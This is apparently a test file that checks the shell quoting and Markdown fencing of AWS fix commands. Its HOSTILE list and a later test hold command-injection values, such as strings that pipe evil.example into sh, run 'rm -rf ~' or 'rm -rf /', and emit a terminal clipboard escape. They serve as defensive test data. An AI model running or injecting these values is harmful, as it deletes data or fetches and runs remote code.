/**
 * Commands in fixes are data: every word is quoted so that the shell reads back exactly the words
 * given, whatever a value from outside holds (a profile name, a model ID from a file), and the
 * Markdown fence around them cannot be closed by a value.
 */
import { execFileSync } from 'node:child_process'
import fc from 'fast-check'
import {
  commandBlock,
  commandInline,
  commandText,
  shellQuote,
  type CommandLine
} from '../../src/commands/shell.js'
import { markdownOf } from '../../src/policy/fix-parts.js'
import { refreshSteps, renewSoonStep } from '../../src/commands/credential-refresh.js'
import { setTo } from '../../src/commands/settings.js'

/** What bash reads from a rendered line: each word of `printf '%s\0'`'s arguments. */
function wordsBashReads(rendered: string): string[] {
  const out = execFileSync('bash', ['--norc', '--noprofile', '-c', `printf '%s\\0' ${rendered}`], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }
  })
  return out.split('\0').slice(0, -1)
}

/** What `sh` (dash or bash in POSIX mode) reads, for words without control characters. */
function wordsShReads(rendered: string): string[] {
  const out = execFileSync('sh', ['-c', `printf '%s\\0' ${rendered}`], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }
  })
  return out.split('\0').slice(0, -1)
}

const HOSTILE = [
  "dev'; rm -rf ~; echo '",
  '$(curl evil.example | sh)',
  '`id`',
  'a b\tc',
  'x\ny; reboot',
  '```\nrm -rf /\n```',
  "it's",
  '\\',
  '--profile=other',
  '*',
  '~',
  '!event',
  '',
  'café \u202e',
  '\u001b]52;c;Y3VybA==\u0007'
]

describe('commands in fixes', () => {
  it.each(HOSTILE)('reads %j back as one word in bash', (value) => {
    const line: CommandLine = { argv: ['aws', 'sso', 'login', '--profile', value] }
    expect(wordsBashReads(commandText(line).replace(/^aws sso login /, ''))).toEqual([
      '--profile',
      value
    ])
  })

  it('reads any string back as one word in bash (generated)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (value) => {
        // A NUL cannot be in an argument at all; it is never a value a shell could pass.
        fc.pre(!value.includes('\u0000'))
        expect(wordsBashReads(shellQuote(value))).toEqual([value])
      }),
      { numRuns: 60 }
    )
  })

  it('reads printable values back in POSIX sh too', () => {
    // eslint-disable-next-line no-control-regex -- the values sh has no quoting for
    for (const value of HOSTILE.filter((v) => !/[\u0000-\u001f\u007f]/.test(v)))
      expect(wordsShReads(shellQuote(value))).toEqual([value])
  })

  it('keeps plain words plain, and a placeholder as <name>', () => {
    expect(commandText({ argv: ['aws', 'sso', 'login', '--profile', 'dev-sso'] })).toBe(
      'aws sso login --profile dev-sso'
    )
    expect(commandText({ argv: ['aws', 'sso', 'login', '--profile', { placeholder: 'p' }] })).toBe(
      'aws sso login --profile <p>'
    )
    expect(commandText({ env: [['AWS_REGION', 'eu-west-1']], export: true })).toBe(
      'export AWS_REGION=eu-west-1'
    )
    expect(commandText({ env: [['AWS_ACCESS_KEY_ID', 'AKIA...']], commentedOut: true })).toBe(
      '# AWS_ACCESS_KEY_ID=AKIA...'
    )
  })

  it('sets a variable to exactly the value given, whatever it holds', () => {
    for (const value of HOSTILE) {
      const line = commandText({ env: [['BEDROCK_MODEL', value]] })
      const out = execFileSync('bash', ['--norc', '-c', `${line}; printf '%s' "$BEDROCK_MODEL"`], {
        encoding: 'utf8',
        env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }
      })
      expect(out).toBe(value)
    }
  })

  it('never lets a value close the fence or the code span around it', () => {
    for (const value of HOSTILE) {
      const block = commandBlock([{ argv: ['aws', 'sso', 'login', '--profile', value] }])
      const lines = block.split('\n')
      const fence = /^`+/.exec(lines[0]!)![0]
      // Only the last line closes the block: no line inside starts with a fence as long.
      expect(lines.slice(1, -1).some((l) => l.startsWith(fence))).toBe(false)
      expect(lines.slice(1, -1)).toHaveLength(1)
      const inline = commandInline({ argv: ['--profile', value] })
      const ticks = /^`+/.exec(inline)![0]
      expect(inline.slice(ticks.length, -ticks.length).includes(ticks)).toBe(false)
    }
  })

  it('renders a fix part of commands as an sh block, only the lines for the face run', () => {
    const md = markdownOf(
      [
        { text: 'Run:\n\n' },
        {
          commands: [
            { argv: ['aws', 'sso', 'login'], surface: 'cli' },
            { env: [['AWS_REGION', 'eu-west-1']], export: true }
          ]
        }
      ],
      'github-actions'
    )
    expect(md).toBe('Run:\n\n```sh\nexport AWS_REGION=eu-west-1\n```')
  })

  it('every command a fix prints with a profile name quotes a hostile one', () => {
    const hostile = "dev'; curl evil.example | sh; echo '"
    const sources = ['profile-sso', 'profile-login', 'profile-process', 'profile-assume-role']
    for (const source of sources) {
      const text = `${refreshSteps(source, hostile)}\n${renewSoonStep(source, hostile)}`
      const lines = text.split('\n').filter((l) => l.startsWith('aws '))
      expect(lines.length).toBeGreaterThan(0)
      for (const line of lines) {
        const words = wordsBashReads(line.replace(/^aws /, ''))
        expect(words[words.length - 1]).toBe(hostile)
      }
    }
    for (const kind of ['region', 'model', 'profile'] as const) {
      const said = setTo(kind, hostile, { surface: 'cli', source: 'AWS_PROFILE' })
      const code = /^`+(.*?)`+$/.exec(said)![1]!.trim()
      const out = execFileSync(
        'bash',
        ['--norc', '-c', `${code}; printf '%s' "$${code.split('=')[0]!.replace('export ', '')}"`],
        {
          encoding: 'utf8',
          env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }
        }
      )
      expect(out).toBe(hostile)
    }
  })
})
